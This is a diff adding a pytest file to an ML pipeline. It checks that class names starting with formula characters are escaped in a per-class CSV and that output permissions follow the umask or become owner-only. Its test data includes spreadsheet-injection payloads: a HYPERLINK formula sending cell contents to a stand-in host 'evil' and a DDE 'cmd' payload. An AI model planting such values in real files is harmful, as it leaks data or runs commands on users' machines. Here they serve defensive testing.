@@ -1,0 +1,56 @@
+"""What the pipeline writes stays safe to open and private when asked (issue 26, item 8): class names
+from a dataset cannot run as spreadsheet formulas; outputs follow the umask, and `private` makes them
+owner-only."""
+
+import csv
+import os
+import stat
+from pathlib import Path
+
+import pandas as pd
+import pytest
+import torch
+from helpers import snakemake
+
+from rectrain import evaluate
+
+NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "tench"]
+
+
+def test_class_names_that_start_a_formula_are_written_as_text_in_per_class_csv(tmp_path):
+    classes = pd.DataFrame({"label": [str(i) for i in range(5)], "wnid": ["=w", "n1", "n2", "n3", "n4"], "name": NAMES})
+    confusion = torch.eye(5, dtype=torch.long) * 3
+    confusion[0, 1] = 1
+    evaluate.write_outputs(tmp_path, {"top1": 0.9}, evaluate.per_class(confusion, classes))
+    with open(tmp_path / "per_class.csv", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [row["name"] for row in rows] == ["'" + name for name in NAMES[:4]] + ["tench"]
+    assert rows[0]["wnid"] == "'=w" and rows[1]["most_confused_wnid"] == ""
+    assert rows[0]["most_confused_wnid"] == "n1" and rows[0]["accuracy"] == "0.75" and rows[0]["images"] == "4"
+
+
+def modes(root: Path, *paths: str) -> dict[str, int]:
+    return {p: stat.S_IMODE((root / p).stat().st_mode) for p in paths}
+
+
+@pytest.mark.slow
+def test_outputs_follow_the_umask_and_private_makes_them_and_existing_folders_owner_only(tmp_path):
+    outputs = ("results", "logs", "results/demo/index", "results/demo/index/train.tsv", "logs/index_raw/demo.log")
+    old = os.umask(0o022)
+    try:
+        target = "results/demo/index/train.tsv"
+        snakemake("--cores", "1", "--directory", str(tmp_path), target, check=True)
+        assert modes(tmp_path, *outputs) == dict(zip(outputs, [0o755, 0o755, 0o755, 0o644, 0o644], strict=True))
+        # turning it on closes what earlier runs wrote, without rerunning anything...
+        dry = snakemake("-n", target, "--directory", str(tmp_path), "--config", "private=true", check=True)
+        assert "Nothing to be done" in dry.stdout, dry.stdout
+        assert modes(tmp_path, "results", "logs", "benchmarks", ".snakemake") == dict.fromkeys(
+            ["results", "logs", "benchmarks", ".snakemake"], 0o700
+        )
+        # ...and what jobs write from then on is owner-only
+        args = ("--cores", "1", "--directory", str(tmp_path), "--forcerun", "index_raw", "--config", "private=true")
+        snakemake(target, *args, check=True)
+        # (results/demo/index/ was kept as it was, 0755, inside results/, now 0700)
+        assert modes(tmp_path, *outputs[3:]) == dict(zip(outputs[3:], [0o600, 0o600], strict=True))
+    finally:
+        os.umask(old)
